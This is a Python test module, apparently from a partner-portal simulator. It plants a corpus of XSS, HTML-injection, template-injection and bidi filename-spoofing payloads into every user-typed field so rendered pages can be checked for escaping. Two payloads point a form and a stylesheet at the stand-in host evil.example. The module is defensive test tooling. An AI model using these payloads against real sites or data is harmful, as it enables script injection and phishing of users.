"""Text as an attacker would type it into a vendor, planted in every text field the simulator serves.

Whatever of it becomes markup carries the attribute `data-planted`, and a template that was evaluated says 60481729: a
page is looked at for both, since the policy of the pages would keep the script itself from running.
"""

from __future__ import annotations

from dataclasses import fields, is_dataclass
from itertools import count
from pathlib import PurePosixPath
from typing import TYPE_CHECKING, Any, Final

if TYPE_CHECKING:
    from collections.abc import Iterator

    from partnerhub.simulator.world.model import World

MARK: Final = "data-planted"
EVALUATED: Final = "60481729"
"""7777 × 7777."""
CORPUS: Final = (
    f"<script {MARK}>alert(1)</script>",
    f"<img src=x {MARK} onerror=alert(2)>",
    f'"><svg {MARK} onload=alert(3)>',
    f"' autofocus {MARK} onfocus='alert(4)",
    f'" {MARK} onmouseover="alert(5)',
    f'<a {MARK} href="javascript:alert(6)">open</a>',
    f"</title></style><style {MARK}>body{{display:none}}</style>",
    f"</textarea></script><iframe {MARK} srcdoc='<script>parent.alert(7)</script>'>",
    f"<form {MARK} action=https://evil.example/><input name=q>",
    f"<link {MARK} rel=stylesheet href=//evil.example/a.css>",
    f"<div {MARK} hx-get=/audit hx-trigger=load style=position:fixed;inset:0>",
    f"<math><mtext></math><img {MARK} src=1 onerror=alert(8)>",
    "{{7777*7777}} ${7777*7777} #{7777*7777} {% raw %}",
    "javascript:alert(9)",
    "\u202egpj.exe\u202c \u2066<b>\u2069",
    "&lt;script&gt;alert(10)&lt;/script&gt; &#60;img&#62;",
)
TEXT: Final = frozenset({
    "title", "subject", "text", "summary", "description", "notes", "street", "city", "region", "family_name",
    "special_terms", "end_customer", "number", "quoted", "before", "after",
})  # fmt: skip
"""Fields of the world that people type freely, wherever they stand. Names are planted with care, see below."""
LISTS: Final = frozenset({"lines", "grouped", "smart_art", "labels"})
TYPED_IN_A_LIST: Final = ("City", "Services", "Status", "Tier", "Notes", "Contact", "Partner since")


def plant(world: World, untouched: set[str]) -> World:
    """Add an attack to every text of the world, in place. untouched: organizations that keep their names."""
    turn = count()
    org_attack = {
        each: " " + CORPUS[position % len(CORPUS)]
        for position, each in enumerate(sorted(world.orgs))
        if each not in untouched
    }
    for thing in things(world):
        plant_texts(thing, turn)
        plant_name(thing, org_attack, turn)
    for mail in world.mails:
        mail.sender = attacked_sender(mail.sender, turn)
        mail.attachments = [(file_name(name, turn), kind, data) for name, kind, data in mail.attachments]
    for deck in world.decks:
        path = PurePosixPath(deck.path)
        deck.path = str(path.with_name(file_name(path.name, turn)))
    return world


def things(part: Any) -> Iterator[Any]:
    """Every dataclass instance below, itself first."""
    if is_dataclass(part):
        yield part
        for each in fields(part):
            yield from things(getattr(part, each.name))
    elif isinstance(part, dict):
        for value in list(part.values()):
            yield from things(value)
    elif isinstance(part, list | tuple):
        for value in part:
            yield from things(value)


def plant_texts(thing: Any, turn: Iterator[int]) -> None:
    for each in fields(thing):
        value = getattr(thing, each.name)
        if each.name in TEXT and isinstance(value, str):
            setattr(thing, each.name, f"{value} {attack(turn)}")
        elif each.name in LISTS and value:
            setattr(thing, each.name, [f"{text} {attack(turn)}" for text in value])
    if type(thing).__name__ == "SheetRow":
        thing.values |= {name: f"{thing.values.get(name, '')} {attack(turn)}" for name in TYPED_IN_A_LIST}


def plant_name(thing: Any, org_attack: dict[str, str], turn: Iterator[int]) -> None:
    """A name gets the attack of its organization, so that records that were one stay one."""
    kind = type(thing).__name__
    if kind in {"Org", "CrmCompany", "SalesAccount"}:
        thing.name += org_attack.get(thing.id if kind == "Org" else thing.org_id, "")
    elif kind == "SheetRow":
        thing.values["Company"] += org_attack.get(thing.org_id, "")
    elif kind in {"Staff", "WorldDeal", "Opportunity", "DealRegistration", "IssueProject", "Task"}:
        thing.name += f" {attack(turn)}"


def attacked_sender(sender: tuple[str, str], turn: Iterator[int]) -> tuple[str, str]:
    return (f"{sender[0]} {attack(turn)}".replace("\n", " "), sender[1])


def file_name(name: str, turn: Iterator[int]) -> str:
    """The name with an attack in it; a file name has no slash."""
    path = PurePosixPath(name)
    return f"{path.stem} {attack(turn)}{path.suffix}".replace("/", "\N{DIVISION SLASH}")


def attack(turn: Iterator[int]) -> str:
    return CORPUS[next(turn) % len(CORPUS)]
